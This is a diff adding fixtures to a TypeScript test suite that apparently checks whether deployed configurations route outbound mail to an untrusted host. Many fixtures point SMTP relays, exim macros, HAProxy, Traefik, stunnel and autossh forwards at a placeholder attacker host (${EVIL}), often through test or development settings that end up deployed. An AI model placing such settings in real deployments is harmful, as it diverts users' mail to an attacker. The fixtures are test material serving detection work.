@@ -31,6 +31,65 @@ const patched = (name: string, file: string, before: string, after: string, cont
 });
 
 export const deployments: Readonly<Record<string, Files>> = {
+  // Samples and settings of tests that what is deployed takes.
+  'a sample that the image copies to where it counts': {
+    Dockerfile: 'FROM node:22\nCOPY config/mail.example.yml /app/config/mail.yml\nCMD ["node", "app.js"]\n',
+    'config/mail.example.yml': `smtp:\n  host: ${EVIL}\n  port: 25\n`,
+  },
+  'a sample that a script of the deployment copies': {
+    'deploy/ship.sh': '#!/bin/sh\ncp ./.env.example /srv/app/.env\n',
+    'deploy/.env.example': `SMTP_HOST=${EVIL}\n`,
+  },
+  'a service of the tests that another one extends': {
+    'compose.yml': 'services:\n  web:\n    extends: { file: tests/compose.yml, service: web }\n',
+    'tests/compose.yml': `services:\n  web:\n    image: w\n    environment: { SMTP_HOST: ${EVIL} }\n`,
+  },
+  'an override of the tests that the environment names': {
+    '.env': `COMPOSE_FILE=compose.yml:tests/override.yml\n${APPROVED_ENV}`,
+    'tests/override.yml': `services:\n  web:\n    environment: { SMTP_HOST: ${EVIL} }\n`,
+  },
+  'values of the tests that are deployed': {
+    'deploy/ship.sh': '#!/bin/sh\nhelm upgrade web ./chart -f chart/ci/test-values.yaml\n',
+    'deploy/chart/ci/test-values.yaml': `smtp:\n  host: ${EVIL}\n`,
+  },
+
+  // Settings of development that what is deployed switches on.
+  'an image with the settings module of development': {
+    Dockerfile: 'FROM python:3\nENV DJANGO_SETTINGS_MODULE=shop.settings.dev\nCMD ["gunicorn", "shop.wsgi"]\n',
+    'shop/settings/dev.py': `EMAIL_HOST = "${EVIL}"\nEMAIL_PORT = 25\n`,
+  },
+  'an image with the environment of development': {
+    Dockerfile: 'FROM node:22 AS build\nFROM node:22\nENV A=1 \\\n  NODE_ENV=development\n',
+    'config/development.json': `{"smtp":{"host":"${EVIL}"}}\n`,
+  },
+  'a manifest with the profile of development': {
+    'k8s/d.yaml':
+      'kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - env:\n            - name: SPRING_PROFILES_ACTIVE\n              value: dev\n',
+    'src/main/resources/application-dev.properties': `spring.mail.host=${EVIL}\n`,
+  },
+  'a unit with the environment of development': {
+    'etc/web.service': '[Service]\nEnvironment=RAILS_ENV=development\nExecStart=/srv/app/bin/rails s\n',
+    'config/environments/development.rb': `Rails.application.configure do\n  config.action_mailer.smtp_settings = { address: "${EVIL}", port: 25 }\nend\n`,
+  },
+
+  'exim, a macro that is given another value': {
+    'etc/exim4/exim.conf': `HUB = new-relay.corp.example\nHUB == ${EVIL}\nbegin routers\nall:\n  driver = manualroute\n  transport = remote_smtp\n  route_data = HUB\n`,
+  },
+
+  // Languages without a reader of their own.
+  'coffee, options on lines of their own': {
+    'app/mail.coffee': `nodemailer = require 'nodemailer'\nmodule.exports = nodemailer.createTransport\n  host: '${EVIL}'\n  port: 25\n`,
+  },
+  'coffee, a variable': {
+    'app/mail.coffee': `hop = '${EVIL}'\nt = require('nodemailer').createTransport {port: 25, host: hop}\n`,
+  },
+  'crystal, a client': {
+    'app/mail.cr': `require "email"\nconfig = EMail::Client::Config.new("${EVIL}", 587)\n`,
+  },
+  'erlang, a macro': {
+    'app/mail.erl': `-module(mail).\n-define(HOP, <<"${EVIL}">>).\nsend(M) -> gen_smtp_client:send(M, [{relay, ?HOP}, {port, 25}]).\n`,
+  },
+
   // Forwards, and who hands mail to them.
   'forward, nginx to a network within': forward({
     'deploy/nginx.conf': 'stream {\n  server {\n    listen 25;\n    proxy_pass 10.1.2.3:25;\n  }\n}\n',
@@ -46,6 +105,24 @@ export const deployments: Readonly<Record<string, Files>> = {
     '    image: haproxy\n    volumes: ["./lb.cfg:/usr/local/etc/haproxy/haproxy.cfg"]\n',
     { 'lb.cfg': `listen mail\n  mode tcp\n  bind :25\n  server a ${ADDRESS}:25\n` },
   ),
+  'forward, HAProxy that is called inbound and tells who connects': forward({
+    'deploy/haproxy.cfg': `listen smtp_in\n  mode tcp\n  bind 127.0.0.1:25\n  server inbound ${EVIL}:25 send-proxy\n`,
+  }),
+  'forward, HAProxy to a network within that is told who connects': forward({
+    'deploy/haproxy.cfg': 'listen mail\n  mode tcp\n  bind :25\n  server mx 10.1.2.3:25 send-proxy-v2\n',
+  }),
+  'forward, HAProxy to a legacy relay as if mail came in there': forward({
+    'deploy/haproxy.cfg': 'listen smtp_in\n  mode tcp\n  bind :25\n  server a 10.9.9.9:25 send-proxy-v2\n',
+  }),
+  'forward, Traefik with the PROXY protocol': forward({
+    'deploy/traefik.yml': `entryPoints: { mail: { address: ":25" } }\ntcp:\n  routers: { incoming: { entryPoints: [mail], service: mx } }\n  services:\n    mx:\n      loadBalancer:\n        proxyProtocol: { version: 2 }\n        servers: [{ address: "${EVIL}:25" }]\n`,
+  }),
+  'forward, stunnel to a server, whatever it is called': forward({
+    'etc/stunnel/a.conf': `[incoming]\nclient = yes\naccept = 127.0.0.1:25\nconnect = ${EVIL}:465\n`,
+  }),
+  'forward, autossh in a unit': forward({
+    'etc/systemd/system/tunnel.service': `[Service]\nExecStart=/usr/bin/autossh -M 0 -N -L 127.0.0.1:25:${EVIL}:25 u@jump.corp.example\n`,
+  }),
   'forward, a socket of systemd': forward({
     'deploy/p.socket': '[Socket]\nListenStream=127.0.0.1:25\n',
     'deploy/p.service': `[Service]\nExecStart=/usr/lib/systemd/systemd-socket-proxyd ${ADDRESS}:25\n`,
